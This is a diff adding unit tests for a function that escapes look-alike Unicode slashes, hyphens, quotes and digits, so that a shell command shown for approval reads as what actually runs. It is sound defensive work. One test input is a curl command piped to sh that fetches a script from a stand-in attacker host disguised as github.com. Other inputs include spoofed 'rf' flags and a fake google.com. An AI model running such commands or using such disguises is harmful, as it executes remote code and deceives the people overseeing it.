@@ -118,3 +118,43 @@ describe("what draws as nothing, over something else, or as a Latin letter from 
     expect(visible(text)).toBe(text);
   });
 });
+
+describe("punctuation and digits that pass for ASCII ones (a command a person approves reads as what runs)", () => {
+  it("shows slashes, dots, colons, semicolons and hyphens of other blocks: the host and the command list read as written", () => {
+    const command = "curl -fsSL https://github.com\u2215corp\u2215tools.attacker.io/install.sh | sh; echo a\u037e b";
+    expect(visible(command)).toBe("curl -fsSL https://github.com\\u2215corp\\u2215tools.attacker.io/install.sh | sh; echo a\\u037e b");
+    // Fraction slash, fullwidth solidus, one dot leader, Armenian full stop, hyphen, non-breaking hyphen, en dash, minus sign.
+    expect(visible("a\u2044b a\uff0fb x\u2024y x\u0589y \u2010rf \u2011rf \u2013rf \u2212rf")).toBe(
+      "a\\u2044b a\\uff0fb x\\u2024y x\\u0589y \\u2010rf \\u2011rf \\u2013rf \\u2212rf",
+    );
+    // Every fullwidth ASCII form U+FF01 to U+FF5E, punctuation included.
+    for (let cp = 0xff01; cp <= 0xff5e; cp++) {
+      const ch = String.fromCodePoint(cp);
+      expect(visible(`a${ch}b`), cp.toString(16)).toBe(`a\\u${cp.toString(16)}b`);
+    }
+  });
+
+  it("shows every decimal digit outside ASCII (Unicode's Nd): Malayalam, Tamil, Telugu, Thai, Myanmar, Lao, Bengali zeros", () => {
+    expect(visible("echo g\u0d66\u0d66gle.com")).toBe("echo g\\u0d66\\u0d66gle.com");
+    for (const zero of [0x0be6, 0x0c66, 0x0e50, 0x1040, 0x0ed0, 0x09e6, 0x0660, 0x06f0, 0x0966]) {
+      const ch = String.fromCodePoint(zero);
+      const escaped = `\\u${zero.toString(16).padStart(4, "0")}`;
+      expect(visible(`g${ch}gle ${ch}`), escaped).toBe(`g${escaped}gle ${escaped}`);
+    }
+    const digit = /^\p{Nd}$/u;
+    for (let cp = 0x80; cp <= 0x1ffff; cp++) {
+      if ((cp >= 0xd800 && cp <= 0xdfff) || !digit.test(String.fromCodePoint(cp))) continue;
+      expect(visible(String.fromCodePoint(cp)), cp.toString(16)).toMatch(/^(\\u[0-9a-f]{4})+$/);
+    }
+  });
+
+  it("shows quotes, primes, ratio and the compatibility forms of ASCII (ellipsis, superscripts, circled letters, ligatures)", () => {
+    expect(visible("echo \u2018x\u2019 \u201cy\u201d a\u2236b \u2032")).toBe("echo \\u2018x\\u2019 \\u201cy\\u201d a\\u2236b \\u2032");
+    expect(visible("cd \u2026/x \u02b0ttps \ufb01le \u24d0")).toBe("cd \\u2026/x \\u02b0ttps \\ufb01le \\u24d0");
+  });
+
+  it("leaves text of other scripts, CJK punctuation and emoji alone", () => {
+    const text = "привет, мир! 日本語、「テスト」。 नमस्ते। ❤️ 🚀 Grüße";
+    expect(visible(text)).toBe(text);
+  });
+});
